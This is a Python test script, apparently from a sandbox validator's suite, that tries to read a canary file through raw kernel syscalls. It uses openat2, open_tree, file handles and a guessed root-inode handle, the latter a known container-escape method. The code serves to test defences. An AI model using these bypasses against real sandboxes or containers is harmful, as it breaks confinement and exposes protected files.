# attack: asks the kernel by number, not the C library: open, openat, openat2, creat, and handles instead of names
# expect: validator
# validator: refused
import ctypes
import os
import struct

CANARY = b"CANARY" + b"_7f3a"
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = os.uname().machine == "x86_64"
NUMBERS = {
    "open": 2 if X86 else None,
    "openat": 257 if X86 else 56,
    "openat2": 437,
    "creat": 85 if X86 else None,
    "name_to_handle_at": 303 if X86 else 264,
    "open_by_handle_at": 304 if X86 else 265,
    "open_tree": 428,
    "uselib": 134 if X86 else None,
}
PATH = ctypes.create_string_buffer(b"@CANARY_FILE@")
NOW = -100  # AT_FDCWD


def call(name, *arguments):
    number = NUMBERS[name]
    if number is None:
        raise OSError("no such call on this machine")
    converted = [ctypes.c_long(item) if isinstance(item, int) else item for item in arguments]
    ctypes.set_errno(0)
    answer = libc.syscall(ctypes.c_long(number), *converted)
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


def by_handle():
    """A file's handle opens it without any path, if the caller may: so containers were left in 2014."""
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 8 + 128)
    mount = ctypes.c_int()
    call("name_to_handle_at", NOW, PATH, handle, ctypes.byref(mount), 0)
    return call("open_by_handle_at", NOW, handle, os.O_RDONLY)


def by_guessed_handle():
    """Inode 2 is the root folder of most file systems: a handle can be made up."""
    for kind, body in ((1, struct.pack("=II", 2, 0)), (0x81, struct.pack("=QII", 128, 0, 0))):
        handle = ctypes.create_string_buffer(struct.pack("=Ii", len(body), kind) + body, 8 + 128)
        try:
            root = call("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
        except OSError as error:
            print("guessed handle", error)
            continue
        return os.open("@CANARY_FILE@".lstrip("/"), os.O_RDONLY, dir_fd=root)
    raise OSError("no handle fits")


ways = {
    "open": lambda: call("open", PATH, os.O_RDONLY, 0),
    "open with every harmless flag": lambda: call("open", PATH, os.O_RDONLY | 0o100000 | 0o1000000 | 0o4000, 0),
    "openat": lambda: call("openat", NOW, PATH, os.O_RDONLY, 0),
    "openat, upper half of the flags set": lambda: call("openat", NOW, PATH, (0x7FFF << 32) | os.O_RDONLY, 0),
    "openat2": lambda: call("openat2", NOW, PATH, struct.pack("=QQQ", os.O_RDONLY, 0, 0), 24),
    "open_tree": lambda: call("open_tree", NOW, PATH, 0),
    "open_tree, cloned": lambda: call("open_tree", NOW, PATH, 1),
    "handle": by_handle,
    "guessed handle": by_guessed_handle,
}
for name, way in ways.items():
    try:
        fd = way()
        data = os.read(fd, 200)
        if CANARY in data:
            print(f"ESCAPED: {name} read {data!r}", flush=True)
    except OSError as error:
        print(name, error)

# Numbers beyond the table, and negative ones, end up nowhere.
for number in (0x40000000, -1, 10_000, 0xFFFFFFFF):
    ctypes.set_errno(0)
    print(number, libc.syscall(ctypes.c_long(number), PATH, 0), os.strerror(ctypes.get_errno()))
